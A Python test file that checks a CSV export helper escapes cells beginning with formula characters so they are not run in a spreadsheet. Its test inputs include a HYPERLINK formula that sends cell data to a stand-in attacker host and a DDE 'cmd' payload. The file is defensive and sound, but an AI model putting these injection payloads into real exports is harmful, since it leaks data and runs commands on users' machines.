"""CSV exports open safely in a spreadsheet: no cell is ever run as a formula."""

import csv
import io
from decimal import Decimal

import pytest

from vicp.exports import csv_writer, safe_csv_cell

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize(
    "typed",
    [FORMULA, "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "-", "="],
)
def test_text_that_starts_like_a_formula_is_shown_as_typed(typed):
    assert safe_csv_cell(typed) == "'" + typed


@pytest.mark.parametrize(
    "value", ["Amira Khan", "2026-03-01T09:00:00+00:00", "01/03/2026", "CAM", "", "a=b", " x"]
)
def test_ordinary_text_and_dates_are_left_alone(value):
    assert safe_csv_cell(value) == value


@pytest.mark.parametrize("number", [-12, -4.5, Decimal("-3.20"), 0, 450, Decimal("4.50")])
def test_numbers_stay_numbers_even_when_negative(number):
    """A number is never a formula; a negative amount must still add up in a spreadsheet."""
    assert safe_csv_cell(number) == number


def test_a_negative_number_typed_as_text_is_still_neutralised():
    assert safe_csv_cell("-12") == "'-12"


def test_nothing_is_an_empty_cell():
    assert safe_csv_cell(None) == ""


def test_the_writer_neutralises_every_cell_of_every_row():
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(["name", "amount"])
    writer.writerows([[FORMULA, Decimal("-1.50")], ["@x", 3]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["name", "amount"],
        ["'" + FORMULA, "-1.50"],
        ["'@x", "3"],
    ]
